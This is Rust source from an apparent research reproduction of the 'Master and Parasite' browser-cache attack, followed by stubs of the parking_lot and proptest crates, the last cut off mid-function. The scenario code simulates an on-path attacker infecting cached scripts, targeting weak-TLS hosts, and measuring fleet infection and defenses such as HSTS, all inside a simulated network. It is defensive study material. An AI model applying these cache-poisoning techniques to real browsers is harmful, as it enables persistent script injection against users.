//! Scenario composition: build a runnable attack world in a few lines.
//!
//! Every example and ad-hoc experiment used to hand-wire its own
//! [`Internet`], [`StaticOrigin`]s and [`Master`]; [`ScenarioBuilder`]
//! replaces that plumbing. A builder collects origins, victim applications, a
//! browser profile and the master's campaign (targets, blanket infection,
//! weak-TLS hosts), and [`ScenarioBuilder::build`] assembles a [`Scenario`]:
//! a victim [`Browser`] wired through the master's injecting exchange (or a
//! clean network when no master is configured), plus helpers to rebuild the
//! clean network — so "the victim goes home" is one call.
//!
//! ```rust
//! use master_parasite::scenario::ScenarioBuilder;
//!
//! let mut scenario = ScenarioBuilder::new()
//!     .script("somesite.com", "/my.js", "function genuine(){}", "public, max-age=604800")
//!     .master("master.attacker.example")
//!     .target("http://somesite.com/my.js")
//!     .build();
//! let url = master_parasite::httpsim::url::Url::parse("http://somesite.com/my.js").unwrap();
//! scenario.browser.fetch(&url, "somesite.com");
//! scenario.go_home(); // same sites, clean path — the cache keeps the parasite
//! ```

use mp_browser::browser::Browser;
use mp_browser::profile::BrowserProfile;
use mp_httpsim::body::ResourceKind;
use mp_httpsim::tls::{TlsDeployment, TlsVersion};
use mp_httpsim::transport::{Exchange, Internet, StaticOrigin};
use mp_httpsim::url::Url;
use parasite::cnc::CncServer;
use parasite::defense::{stage_survives, AttackStage, Defense};
use parasite::eviction::junk_origin;
use parasite::infect::Infector;
use parasite::master::Master;

type AppFactory = Box<dyn Fn() -> Box<dyn Exchange>>;

/// Composes origins, applications, a browser profile and a [`Master`] into a
/// runnable [`Scenario`].
#[derive(Default)]
pub struct ScenarioBuilder {
    profile: Option<BrowserProfile>,
    origins: Vec<StaticOrigin>,
    apps: Vec<(String, AppFactory)>,
    junk: Option<(usize, usize)>,
    master_host: Option<String>,
    targets: Vec<Url>,
    infect_all: bool,
    weak_tls: Vec<String>,
}

impl ScenarioBuilder {
    /// Starts an empty scenario (Chrome profile, no sites, no master).
    pub fn new() -> Self {
        ScenarioBuilder::default()
    }

    /// Uses the given browser profile for the victim (default: Chrome).
    #[must_use]
    pub fn browser(mut self, profile: BrowserProfile) -> Self {
        self.profile = Some(profile);
        self
    }

    /// Registers a pre-built static origin.
    #[must_use]
    pub fn origin(mut self, origin: StaticOrigin) -> Self {
        self.origins.push(origin);
        self
    }

    /// Adds an HTML page under `host` + `path` (creating the origin on first
    /// use).
    #[must_use]
    pub fn page(self, host: &str, path: &str, html: &str, cache_control: &str) -> Self {
        self.resource(host, path, ResourceKind::Html, html, cache_control)
    }

    /// Adds a JavaScript object under `host` + `path` (creating the origin on
    /// first use).
    #[must_use]
    pub fn script(self, host: &str, path: &str, source: &str, cache_control: &str) -> Self {
        self.resource(host, path, ResourceKind::JavaScript, source, cache_control)
    }

    /// Adds an arbitrary resource under `host` + `path`.
    #[must_use]
    pub fn resource(
        mut self,
        host: &str,
        path: &str,
        kind: ResourceKind,
        body: &str,
        cache_control: &str,
    ) -> Self {
        if let Some(origin) = self.origins.iter_mut().find(|o| o.host() == host) {
            origin.put_text(path, kind, body, cache_control);
        } else {
            let mut origin = StaticOrigin::new(host);
            origin.put_text(path, kind, body, cache_control);
            self.origins.push(origin);
        }
        self
    }

    /// Registers a victim application under `host`. The factory is invoked
    /// once per network build, so the hostile path and the clean path serve
    /// independent instances.
    #[must_use]
    pub fn app<F>(mut self, host: &str, factory: F) -> Self
    where
        F: Fn() -> Box<dyn Exchange> + 'static,
    {
        self.apps.push((host.to_string(), Box::new(factory)));
        self
    }

    /// Registers the attacker's junk origin used by cache-eviction scenarios:
    /// `count` objects of `size` bytes each.
    #[must_use]
    pub fn junk(mut self, size: usize, count: usize) -> Self {
        self.junk = Some((size, count));
        self
    }

    /// Puts a master (on-path attacker + C&C) at `host`. The victim's browser
    /// is wired through the master's injecting exchange.
    #[must_use]
    pub fn master(mut self, host: &str) -> Self {
        self.master_host = Some(host.to_string());
        self
    }

    /// Marks `url` as a target object the master races and infects.
    ///
    /// # Panics
    ///
    /// Panics if `url` does not parse (targets are static strings in
    /// scenarios).
    #[must_use]
    pub fn target(mut self, url: &str) -> Self {
        self.targets.push(Url::parse(url).expect("scenario target URL must parse"));
        self
    }

    /// Makes the master infect every JavaScript response it can inject into,
    /// not just the registered targets.
    #[must_use]
    pub fn infect_all(mut self) -> Self {
        self.infect_all = true;
        self
    }

    /// Declares `host`'s HTTPS deployment broken (legacy SSL 3), so the
    /// on-path master can inject into it despite the scheme.
    #[must_use]
    pub fn weak_tls(mut self, host: &str) -> Self {
        self.weak_tls.push(host.to_string());
        self
    }

    /// Builds the world and returns the runnable scenario.
    pub fn build(self) -> Scenario {
        let master = self.master_host.as_deref().map(|host| {
            let mut master = Master::new(host);
            for target in &self.targets {
                master.add_target(target.clone());
            }
            master
        });
        let browser = self.victim_browser(master.as_ref());
        Scenario {
            master,
            browser,
            builder: self,
        }
    }

    /// Wires one fresh victim browser through the (hostile, when a master is
    /// configured) network path. Used by [`ScenarioBuilder::build`] and for
    /// every client of a [`Scenario::fleet_sweep`].
    fn victim_browser(&self, master: Option<&Master>) -> Browser {
        let profile = self.profile.clone().unwrap_or_else(BrowserProfile::chrome);
        match master {
            Some(master) => {
                let mut hostile = master.injecting_exchange(self.internet());
                hostile.infect_all(self.infect_all);
                for host in &self.weak_tls {
                    hostile
                        .injectability_mut()
                        .set(host, TlsDeployment::legacy_ssl(TlsVersion::Ssl3));
                }
                Browser::new(profile, Box::new(hostile))
            }
            None => Browser::new(profile, Box::new(self.internet())),
        }
    }

    fn internet(&self) -> Internet {
        let mut net = Internet::new();
        for origin in &self.origins {
            net.register_origin(origin.clone());
        }
        for (host, factory) in &self.apps {
            net.register(host.clone(), factory());
        }
        if let Some((size, count)) = self.junk {
            net.register_origin(junk_origin(size, count));
        }
        net
    }
}

impl std::fmt::Debug for ScenarioBuilder {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ScenarioBuilder")
            .field("origins", &self.origins.len())
            .field("apps", &self.apps.iter().map(|(host, _)| host).collect::<Vec<_>>())
            .field("master_host", &self.master_host)
            .field("targets", &self.targets)
            .field("infect_all", &self.infect_all)
            .field("weak_tls", &self.weak_tls)
            .finish()
    }
}

/// A built attack world: the victim browser (wired through the master's
/// injecting exchange when one is configured) plus the recipe to rebuild the
/// clean network.
pub struct Scenario {
    /// The master attacker, if the scenario has one.
    pub master: Option<Master>,
    /// The victim browser.
    pub browser: Browser,
    builder: ScenarioBuilder,
}

impl Scenario {
    /// The infector of the scenario's master ( `None` without a master).
    pub fn infector(&self) -> Option<Infector> {
        self.master.as_ref().map(Master::infector)
    }

    /// A fresh C&C server at the master's host (`None` without a master).
    pub fn cnc(&self) -> Option<CncServer> {
        self.builder
            .master_host
            .as_deref()
            .map(CncServer::new)
    }

    /// Rebuilds the scenario's network without the attacker on the path.
    pub fn clean_internet(&self) -> Internet {
        self.builder.internet()
    }

    /// Moves the victim to a clean network (same sites, no attacker): the
    /// parasite now only survives through the caches.
    pub fn go_home(&mut self) {
        let clean = self.clean_internet();
        self.browser.change_network(Box::new(clean));
    }

    /// Runs a campaign sweep at the browser level: `clients` independent
    /// victim browsers (each with its own caches and its own network
    /// instance) visit `page`, and the report counts how many ended up
    /// executing a parasite. Every eighth client sits outside the attacker's
    /// radio range and reaches the sites over the clean path — the same
    /// exposure mix the packet-level `campaign_fleet` experiment in
    /// `parasite::experiments` simulates at much larger scale.
    pub fn fleet_sweep(&self, page: &Url, clients: usize) -> FleetReport {
        let infector = self.infector();
        let mut infected = 0usize;
        for index in 0..clients {
            let exposed = index % 8 != 7;
            let master = if exposed { self.master.as_ref() } else { None };
            let mut browser = self.builder.victim_browser(master);
            let load = browser.visit(page);
            let got_parasite = infector
                .as_ref()
                .map(|infector| load.page.scripts.iter().any(|s| infector.is_infected(&s.body)))
                .unwrap_or(false);
            if got_parasite {
                infected += 1;
            }
        }
        FleetReport {
            clients,
            infected,
            clean: clients - infected,
        }
    }

    /// The browser-level counterpart of the packet-level `attack_surface`
    /// experiment's adoption axis (`parasite::experiments`): the
    /// [`Scenario::fleet_sweep`] fleet visits `page` once, then each
    /// `adoption` point deploys `defense` on that share of the clients. A
    /// defended client stays clean when the defense blocks the
    /// active-injection stage; a defense that does not block it — the
    /// paper's strict-CSP headline — leaves every point of the curve at the
    /// undefended infection count. Per-client adoption coordinates are drawn
    /// independently of the adoption fraction (common random numbers), so
    /// the infected count is monotone non-increasing in adoption by
    /// construction.
    pub fn adoption_sweep(
        &self,
        page: &Url,
        clients: usize,
        defense: Defense,
        adoption: &[f64],
    ) -> Vec<(f64, FleetReport)> {
        use std::hash::{Hash, Hasher};
        let undefended = |index: usize| {
            // A deterministic coordinate in [0, 1) per client, independent of
            // the every-eighth exposure pattern of the fleet sweep.
            let mut hasher = mp_netsim::fasthash::FxHasher::default();
            (index as u64).hash(&mut hasher);
            hasher.finish() as f64 / (u64::MAX as f64 + 1.0)
        };
        // The expensive part — the browser visits — runs once; the defense
        // matrix then gates the recorded outcomes per adoption point.
        let infector = self.infector();
        let raw: Vec<bool> = (0..clients)
            .map(|index| {
                let exposed = index % 8 != 7;
                let master = if exposed { self.master.as_ref() } else { None };
                let mut browser = self.builder.victim_browser(master);
                let load = browser.visit(page);
                infector
                    .as_ref()
                    .map(|infector| load.page.scripts.iter().any(|s| infector.is_infected(&s.body)))
                    .unwrap_or(false)
            })
            .collect();
        let blocked = !stage_survives(defense, AttackStage::ActiveInjection);
        adoption
            .iter()
            .map(|&a| {
                let infected = raw
                    .iter()
                    .enumerate()
                    .filter(|&(index, &got)| got && !(blocked && undefended(index) < a))
                    .count();
                (a, FleetReport { clients, infected, clean: clients - infected })
            })
            .collect()
    }
}

/// Outcome of a [`Scenario::fleet_sweep`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FleetReport {
    /// Victim browsers simulated.
    pub clients: usize,
    /// Clients that ended up executing a parasite.
    pub infected: usize,
    /// Clients that kept clean content.
    pub clean: usize,
}

impl std::fmt::Debug for Scenario {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Scenario")
            .field("has_master", &self.master.is_some())
            .field("builder", &self.builder)
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn infected_scenario() -> Scenario {
        ScenarioBuilder::new()
            .page(
                "somesite.com",
                "/index.html",
                r#"<html><head><script src="/my.js"></script></head><body>news</body></html>"#,
                "no-cache",
            )
            .script("somesite.com", "/my.js", "function genuine(){}", "public, max-age=604800")
            .master("master.attacker.example")
            .target("http://somesite.com/my.js")
            .build()
    }

    #[test]
    fn infection_happens_on_the_hostile_path_and_survives_going_home() {
        let mut scenario = infected_scenario();
        let infector = scenario.infector().expect("scenario has a master");
        let page = Url::parse("http://somesite.com/index.html").unwrap();

        let load = scenario.browser.visit(&page);
        assert!(load.page.scripts.iter().any(|s| infector.is_infected(&s.body)));

        scenario.go_home();
        let load = scenario.browser.visit(&page);
        let script = load.page.scripts.iter().find(|s| infector.is_infected(&s.body));
        assert!(script.is_some(), "the cached parasite survives the clean network");
        assert!(script.unwrap().from_cache);
    }

    #[test]
    fn masterless_scenario_serves_clean_content() {
        let mut scenario = ScenarioBuilder::new()
            .script("somesite.com", "/my.js", "function genuine(){}", "public, max-age=604800")
            .build();
        assert!(scenario.master.is_none());
        assert!(scenario.infector().is_none());
        assert!(scenario.cnc().is_none());
        let url = Url::parse("http://somesite.com/my.js").unwrap();
        let result = scenario.browser.fetch(&url, "somesite.com");
        assert_eq!(result.response.body.as_text(), "function genuine(){}");
    }

    #[test]
    fn fleet_sweep_counts_infections_per_client() {
        let scenario = infected_scenario();
        let page = Url::parse("http://somesite.com/index.html").unwrap();
        let report = scenario.fleet_sweep(&page, 16);
        assert_eq!(report.clients, 16);
        // Clients 7 and 15 sit outside the attacker's range and stay clean.
        assert_eq!(report.infected, 14);
        assert_eq!(report.clean, 2);

        // Without a master the whole fleet stays clean.
        let clean = ScenarioBuilder::new()
            .page("somesite.com", "/index.html", "<html><body>hi</body></html>", "no-cache")
            .build();
        let report = clean.fleet_sweep(&page, 5);
        assert_eq!(report.infected, 0);
        assert_eq!(report.clean, 5);
    }

    #[test]
    fn adoption_sweep_shrinks_with_blocking_defenses_and_not_with_csp() {
        let scenario = infected_scenario();
        let page = Url::parse("http://somesite.com/index.html").unwrap();
        let adoption = [0.0, 0.5, 1.0];

        // HSTS preloading blocks active injection: the curve starts at the
        // fleet_sweep count, never rises, and full adoption clears the fleet.
        let hsts = scenario.adoption_sweep(&page, 16, Defense::HstsPreload, &adoption);
        assert_eq!(hsts[0].1.infected, 14);
        for pair in hsts.windows(2) {
            assert!(pair[1].1.infected <= pair[0].1.infected);
        }
        assert_eq!(hsts.last().unwrap().1.infected, 0);

        // A strict CSP does not block active injection — the paper's
        // headline — so the curve is flat at every adoption level.
        let csp = scenario.adoption_sweep(&page, 16, Defense::StrictCsp, &adoption);
        for (a, report) in &csp {
            assert_eq!(report.infected, 14, "CSP curve must stay flat at adoption {a}");
            assert_eq!(report.clients, 16);
        }
    }

    #[test]
    fn apps_get_fresh_instances_per_network_build() {
        let scenario = ScenarioBuilder::new()
            .app("bank.example", || Box::new(mp_apps::banking::BankingApp::default()))
            .weak_tls("bank.example")
            .master("master.attacker.example")
            .build();
        // Both the hostile path (inside the browser) and the clean rebuild
        // see the registered app host.
        assert!(scenario.clean_internet().knows("bank.example"));
        assert!(scenario.cnc().is_some());
    }
}
