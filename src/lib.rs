//! # master-parasite
//!
//! Facade crate for the *Master and Parasite Attack* (DSN 2021) reproduction.
//!
//! The implementation lives in the workspace crates under `crates/`; this
//! root package exists primarily to host the repository-level integration
//! tests (`tests/`) and runnable scenarios (`examples/`), and re-exports every
//! crate so downstream code — and the examples themselves — can reach the
//! whole system through one dependency:
//!
//! * [`netsim`] (`mp-netsim`) — deterministic packet-level network simulator,
//! * [`httpsim`] (`mp-httpsim`) — HTTP messages, caching semantics, security
//!   policies,
//! * [`browser`] (`mp-browser`) — browser cache, Cache API, storage, DOM, SOP,
//! * [`webcache`] (`mp-webcache`) — the Table IV cache taxonomy and shared
//!   caches,
//! * [`webgen`] (`mp-webgen`) — synthetic web population and measurement
//!   pipelines,
//! * [`apps`] (`mp-apps`) — simulated victim applications,
//! * [`parasite`] — the attack itself: infection, eviction, injection,
//!   persistence, propagation, C&C, defenses and the paper's experiments,
//! * [`bench`] (`mp-bench`) — the paper-report harness,
//! * [`service`] (`mp-service`) — the campaign service daemon: long-running
//!   campaign runs served over a newline-JSON unix/TCP socket.
//!
//! On top of the re-exports, [`scenario`] provides the [`ScenarioBuilder`]:
//! the one-stop way to compose origins, victim applications, a browser
//! profile and a master into a runnable world, used by every example.
//!
//! ## Running experiments
//!
//! The paper's tables and figures are regenerated through the
//! [`parasite::experiments`] registry — see `cargo run -p mp-bench --bin
//! paper-report -- --help` for the CLI:
//!
//! ```rust
//! use master_parasite::parasite::experiments::{run_many, ExperimentId, RunConfig};
//!
//! let artifacts = run_many(&[ExperimentId::Fig4], &[RunConfig::default()], 2);
//! assert!(artifacts[0].render_text().contains("goodput"));
//! ```
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod scenario;

pub use scenario::{FleetReport, Scenario, ScenarioBuilder};

pub use mp_apps as apps;
pub use mp_bench as bench;
pub use mp_browser as browser;
pub use mp_httpsim as httpsim;
pub use mp_netsim as netsim;
pub use mp_service as service;
pub use mp_webcache as webcache;
pub use mp_webgen as webgen;
pub use parasite;
