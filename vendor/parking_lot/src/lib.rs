//! Offline stub of `parking_lot`.
//!
//! Wraps `std::sync` primitives behind parking_lot's poison-free API: `lock()`
//! returns a guard directly, and a poisoned std lock (a panic while held) is
//! transparently recovered, matching parking_lot's behaviour of not poisoning.

#![forbid(unsafe_code)]

use std::sync::{self, MutexGuard, RwLockReadGuard, RwLockWriteGuard};

/// A mutual-exclusion lock whose `lock` never fails.
#[derive(Debug, Default)]
pub struct Mutex<T: ?Sized> {
    inner: sync::Mutex<T>,
}

impl<T> Mutex<T> {
    /// Creates a new mutex holding `value`.
    pub const fn new(value: T) -> Self {
        Mutex {
            inner: sync::Mutex::new(value),
        }
    }

    /// Consumes the mutex, returning the inner value.
    pub fn into_inner(self) -> T {
        self.inner
            .into_inner()
            .unwrap_or_else(sync::PoisonError::into_inner)
    }
}

impl<T: ?Sized> Mutex<T> {
    /// Acquires the lock, blocking until available.
    pub fn lock(&self) -> MutexGuard<'_, T> {
        self.inner
            .lock()
            .unwrap_or_else(sync::PoisonError::into_inner)
    }

    /// Attempts to acquire the lock without blocking.
    pub fn try_lock(&self) -> Option<MutexGuard<'_, T>> {
        match self.inner.try_lock() {
            Ok(guard) => Some(guard),
            Err(sync::TryLockError::Poisoned(poisoned)) => Some(poisoned.into_inner()),
            Err(sync::TryLockError::WouldBlock) => None,
        }
    }

    /// Returns a mutable reference to the underlying data.
    pub fn get_mut(&mut self) -> &mut T {
        self.inner
            .get_mut()
            .unwrap_or_else(sync::PoisonError::into_inner)
    }
}

/// A reader-writer lock whose acquisition methods never fail.
#[derive(Debug, Default)]
pub struct RwLock<T: ?Sized> {
    inner: sync::RwLock<T>,
}

impl<T> RwLock<T> {
    /// Creates a new lock holding `value`.
    pub const fn new(value: T) -> Self {
        RwLock {
            inner: sync::RwLock::new(value),
        }
    }

    /// Consumes the lock, returning the inner value.
    pub fn into_inner(self) -> T {
        self.inner
            .into_inner()
            .unwrap_or_else(sync::PoisonError::into_inner)
    }
}

impl<T: ?Sized> RwLock<T> {
    /// Acquires a shared read lock.
    pub fn read(&self) -> RwLockReadGuard<'_, T> {
        self.inner
            .read()
            .unwrap_or_else(sync::PoisonError::into_inner)
    }

    /// Acquires an exclusive write lock.
    pub fn write(&self) -> RwLockWriteGuard<'_, T> {
        self.inner
            .write()
            .unwrap_or_else(sync::PoisonError::into_inner)
    }

    /// Returns a mutable reference to the underlying data.
    pub fn get_mut(&mut self) -> &mut T {
        self.inner
            .get_mut()
            .unwrap_or_else(sync::PoisonError::into_inner)
    }
}

#[cfg(test)]
mod tests {
    use super::{Mutex, RwLock};
    use std::sync::Arc;

    #[test]
    fn mutex_round_trip() {
        let lock = Mutex::new(1);
        *lock.lock() += 1;
        assert_eq!(lock.into_inner(), 2);
    }

    #[test]
    fn mutex_recovers_from_panic_while_held() {
        let lock = Arc::new(Mutex::new(0));
        let cloned = Arc::clone(&lock);
        let _ = std::thread::spawn(move || {
            let _guard = cloned.lock();
            panic!("poison the std mutex");
        })
        .join();
        // parking_lot semantics: the lock is still usable afterwards.
        *lock.lock() += 5;
        assert_eq!(*lock.lock(), 5);
    }

    #[test]
    fn rwlock_readers_and_writer() {
        let lock = RwLock::new(vec![1, 2]);
        assert_eq!(lock.read().len(), 2);
        lock.write().push(3);
        assert_eq!(*lock.read(), vec![1, 2, 3]);
    }
}
