//! Offline stub of `proptest`.
//!
//! The build environment cannot reach crates.io, so this crate re-implements
//! the slice of proptest the test suite uses: the `proptest!` macro,
//! `prop_assert!`/`prop_assert_eq!`, `any::<T>()`, integer-range strategies,
//! `collection::vec`, `option::of` and string strategies described by a regex
//! subset (`[a-z]` classes, `{m,n}` counts, `(...)?` groups, alternation,
//! escapes).
//!
//! Differences from real proptest, deliberately accepted:
//!
//! * no shrinking — a failing `prop_assert*` reports the case index and the
//!   per-test seed (enough to replay the exact stream deterministically) but
//!   the failing inputs are not echoed or minimised;
//! * sampling is a plain SplitMix64 stream seeded per test function, so runs
//!   are reproducible without a persistence file;
//! * the number of cases per property defaults to 512 (vs proptest's 256) and
//!   can be overridden with the `PROPTEST_CASES` environment variable.

#![forbid(unsafe_code)]

pub mod strategy {
    //! The [`Strategy`] trait and primitive strategies.

    use crate::string::sample_regex;
    use crate::test_runner::TestRng;

    /// A recipe for generating values of a given type.
    pub trait Strategy {
        /// The type of generated values.
        type Value;

        /// Draws one value.
        fn sample(&self, rng: &mut TestRng) -> Self::Value;
    }

    macro_rules! int_range_strategies {
        ($($ty:ty),*) => {$(
            impl Strategy for core::ops::Range<$ty> {
                type Value = $ty;

                fn sample(&self, rng: &mut TestRng) -> $ty {
                    assert!(self.start < self.end, "cannot sample empty range");
                    let span = (self.end as u128).wrapping_sub(self.start as u128);
                    self.start.wrapping_add((rng.next_u64() as u128 % span) as $ty)
                }
            }

            impl Strategy for core::ops::RangeInclusive<$ty> {
                type Value = $ty;

                fn sample(&self, rng: &mut TestRng) -> $ty {
                    let (start, end) = (*self.start(), *self.end());
                    assert!(start <= end, "cannot sample empty range");
                    let span = (end as u128).wrapping_sub(start as u128).wrapping_add(1);
                    start.wrapping_add((rng.next_u64() as u128 % span) as $ty)
                }
            }
        )*};
    }

    int_range_strategies!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    /// Strategy produced by [`crate::arbitrary::any`].
    pub struct Any<T> {
        pub(crate) _marker: core::marker::PhantomData<T>,
    }

    impl<T: crate::arbitrary::Arbitrary> Strategy for Any<T> {
        type Value = T;

        fn sample(&self, rng: &mut TestRng) -> T {
            T::arbitrary(rng)
        }
    }

    impl Strategy for &str {
        type Value = String;

        fn sample(&self, rng: &mut TestRng) -> String {
            sample_regex(self, rng)
        }
    }

    /// Boxed strategies are not used by the workspace but keep signatures
    /// compatible for simple compositions.
    impl<S: Strategy + ?Sized> Strategy for &S {
        type Value = S::Value;

        fn sample(&self, rng: &mut TestRng) -> Self::Value {
            (**self).sample(rng)
        }
    }
}

pub mod arbitrary {
    //! `any::<T>()` and the [`Arbitrary`] trait.

    use crate::strategy::Any;
    use crate::test_runner::TestRng;

    /// Types with a canonical "any value" strategy.
    pub trait Arbitrary: Sized {
        /// Draws an arbitrary value.
        fn arbitrary(rng: &mut TestRng) -> Self;
    }

    macro_rules! arbitrary_ints {
        ($($ty:ty),*) => {$(
            impl Arbitrary for $ty {
                fn arbitrary(rng: &mut TestRng) -> Self {
                    rng.next_u64() as $ty
                }
            }
        )*};
    }

    arbitrary_ints!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Arbitrary for bool {
        fn arbitrary(rng: &mut TestRng) -> Self {
            rng.next_u64() & 1 == 1
        }
    }

    impl Arbitrary for char {
        fn arbitrary(rng: &mut TestRng) -> Self {
            // Printable ASCII keeps generated text debuggable.
            (0x20 + (rng.next_u64() % 0x5f)) as u8 as char
        }
    }

    /// Returns the canonical strategy for `T`.
    pub fn any<T: Arbitrary>() -> Any<T> {
        Any {
            _marker: core::marker::PhantomData,
        }
    }
}

pub mod collection {
    //! Collection strategies (`vec`).

    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;

    /// Inclusive-exclusive bounds on a generated collection's length.
    #[derive(Debug, Clone, Copy)]
    pub struct SizeRange {
        min: usize,
        max_exclusive: usize,
    }

    impl From<usize> for SizeRange {
        fn from(exact: usize) -> Self {
            SizeRange {
                min: exact,
                max_exclusive: exact + 1,
            }
        }
    }

    impl From<core::ops::Range<usize>> for SizeRange {
        fn from(range: core::ops::Range<usize>) -> Self {
            assert!(range.start < range.end, "empty size range");
            SizeRange {
                min: range.start,
                max_exclusive: range.end,
            }
        }
    }

    impl From<core::ops::RangeInclusive<usize>> for SizeRange {
        fn from(range: core::ops::RangeInclusive<usize>) -> Self {
            assert!(range.start() <= range.end(), "empty size range");
            SizeRange {
                min: *range.start(),
                max_exclusive: range.end() + 1,
            }
        }
    }

    /// Strategy for `Vec<T>` with element strategy `S`.
    pub struct VecStrategy<S> {
        element: S,
        size: SizeRange,
    }

    /// Generates vectors whose length falls in `size`.
    pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy {
            element,
            size: size.into(),
        }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;

        fn sample(&self, rng: &mut TestRng) -> Self::Value {
            let span = (self.size.max_exclusive - self.size.min) as u64;
            let len = self.size.min + (rng.next_u64() % span.max(1)) as usize;
            (0..len).map(|_| self.element.sample(rng)).collect()
        }
    }
}

pub mod option {
    //! Option strategies (`of`).

    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;

    /// Strategy for `Option<T>`.
    pub struct OptionStrategy<S> {
        inner: S,
    }

    /// Generates `None` about a quarter of the time, `Some` otherwise.
    pub fn of<S: Strategy>(inner: S) -> OptionStrategy<S> {
        OptionStrategy { inner }
    }

    impl<S: Strategy> Strategy for OptionStrategy<S> {
        type Value = Option<S::Value>;

        fn sample(&self, rng: &mut TestRng) -> Self::Value {
            if rng.next_u64().is_multiple_of(4) {
                None
            } else {
                Some(self.inner.sample(rng))
            }
        }
    }
}

pub mod string {
    //! A tiny regex sampler covering the pattern syntax the suite uses.

    use crate::test_runner::TestRng;

    /// Longest expansion for unbounded quantifiers (`*`, `+`).
    const UNBOUNDED_CAP: usize = 8;

    #[derive(Debug, Clone)]
    enum Node {
        Literal(char),
        /// Flattened character class alternatives.
        Class(Vec<char>),
        /// Alternation of sequences (a single-element alternation is a group).
        Group(Vec<Vec<Node>>),
        /// A node repeated between `min` and `max` times (inclusive).
        Repeated(Box<Node>, usize, usize),
    }

    #[derive(Debug, Clone, Copy)]
    struct Repeat {
        min: usize,
        max: usize,
    }

    /// Parses `pattern` (a supported-regex subset) and draws one matching
    /// string. Panics on syntax the stub does not support, so unsupported
    /// test patterns fail loudly instead of silently sampling garbage.
    pub fn sample_regex(pattern: &str, rng: &mut TestRng) -> String {
        let chars: Vec<char> = pattern.chars().collect();
        let (alternatives, consumed) = parse_alternation(&chars, 0, None);
        assert!(
            consumed == chars.len(),
            "proptest stub: trailing regex input in {pattern:?}"
        );
        let mut out = String::new();
        sample_sequence(&alternatives[rng.next_u64() as usize % alternatives.len()], rng, &mut out);
        out
    }

    /// Parses alternatives separated by `|` until `stop` (or end of input).
    /// Returns the alternatives and the index one past the last consumed
    /// character (past the `stop` character, when given).
    fn parse_alternation(chars: &[char], mut i: usize, stop: Option<char>) -> (Vec<Vec<(Node, Repeat)>>, usize) {
        let mut alternatives = Vec::new();
        let mut current: Vec<(Node, Repeat)> = Vec::new();
        loop {
            match chars.get(i) {
                None => {
                    assert!(stop.is_none(), "proptest stub: unterminated group");
                    alternatives.push(current);
                    return (alternatives, i);
                }
                Some(&c) if Some(c) == stop => {
                    alternatives.push(current);
                    return (alternatives, i + 1);
                }
                Some('|') => {
                    alternatives.push(std::mem::take(&mut current));
                    i += 1;
                }
                Some(_) => {
                    let (node, next) = parse_atom(chars, i);
                    let (repeat, next) = parse_quantifier(chars, next);
                    current.push((node, repeat));
                    i = next;
                }
            }
        }
    }

    fn parse_atom(chars: &[char], i: usize) -> (Node, usize) {
        match chars[i] {
            '(' => {
                let (alternatives, next) = parse_alternation(chars, i + 1, Some(')'));
                // Re-box the quantified sequences into plain node sequences.
                let alternatives = alternatives
                    .into_iter()
                    .map(|seq| seq.into_iter().map(|(node, repeat)| quantified(node, repeat)).collect())
                    .collect();
                (Node::Group(alternatives), next)
            }
            '[' => parse_class(chars, i + 1),
            '\\' => {
                let escaped = *chars
                    .get(i + 1)
                    .expect("proptest stub: dangling escape in regex");
                let node = match escaped {
                    'd' => Node::Class(('0'..='9').collect()),
                    'w' => Node::Class(
                        ('a'..='z').chain('A'..='Z').chain('0'..='9').chain(['_']).collect(),
                    ),
                    's' => Node::Class(vec![' ', '\t']),
                    other => Node::Literal(other),
                };
                (node, i + 2)
            }
            '.' => {
                // Any printable ASCII character.
                (Node::Class((' '..='~').collect()), i + 1)
            }
            c => {
                assert!(
                    !matches!(c, '?' | '*' | '+' | '{' | '}' | ')' | ']'),
                    "proptest stub: unsupported regex syntax at {c:?}"
                );
                (Node::Literal(c), i + 1)
            }
        }
    }

    /// Wraps a quantified node so it can live inside an unquantified group
    /// sequence: `X{2,5}` becomes a single-alternative group re-quantified at
    /// sample time.
    fn quantified(node: Node, repeat: Repeat) -> Node {
        if repeat.min == 1 && repeat.max == 1 {
            node
        } else {
            Node::Group(vec![vec![Node::Repeated(Box::new(node), repeat.min, repeat.max)]])
        }
    }

    fn parse_class(chars: &[char], mut i: usize) -> (Node, usize) {
        let mut members = Vec::new();
        assert!(
            chars.get(i) != Some(&'^'),
            "proptest stub: negated classes unsupported"
        );
        while let Some(&c) = chars.get(i) {
            if c == ']' {
                assert!(!members.is_empty(), "proptest stub: empty character class");
                return (Node::Class(members), i + 1);
            }
            let literal = if c == '\\' {
                i += 1;
                *chars.get(i).expect("proptest stub: dangling escape in class")
            } else {
                c
            };
            // Range `a-z` (a `-` at the end of the class is a literal).
            if chars.get(i + 1) == Some(&'-') && chars.get(i + 2).is_some_and(|&c| c != ']') {
                let end = chars[i + 2];
                assert!(literal <= end, "proptest stub: inverted class range");
                members.extend(literal..=end);
                i += 3;
            } else {
                members.push(literal);
                i += 1;
            }
        }
        panic!("proptest stub: unterminated character class");
    }

    fn parse_quantifier(chars: &[char], i: usize) -> (Repeat, usize) {
        match chars.get(i) {
            Some('?') => (Repeat { min: 0, max: 1 }, i + 1),
            Some('*') => (Repeat { min: 0, max: UNBOUNDED_CAP }, i + 1),
            Some('+') => (Repeat { min: 1, max: UNBOUNDED_CAP }, i + 1),
            Some('{') => {
                let close = chars[i..]
                    .iter()
                    .position(|&c| c == '}')
                    .expect("proptest stub: unterminated {} quantifier")
                    + i;
                let body: String = chars[i + 1..close].iter().collect();
                let (min, max) = match body.split_once(',') {
                    None => {
                        let exact: usize = body.trim().parse().expect("bad {} count");
                        (exact, exact)
                    }
                    Some((min, "")) => {
                        let min: usize = min.trim().parse().expect("bad {} count");
                        // Open-ended `{m,}`: sample up to CAP extra repetitions.
                        (min, min + UNBOUNDED_CAP)
                    }
                    Some((min, max)) => (
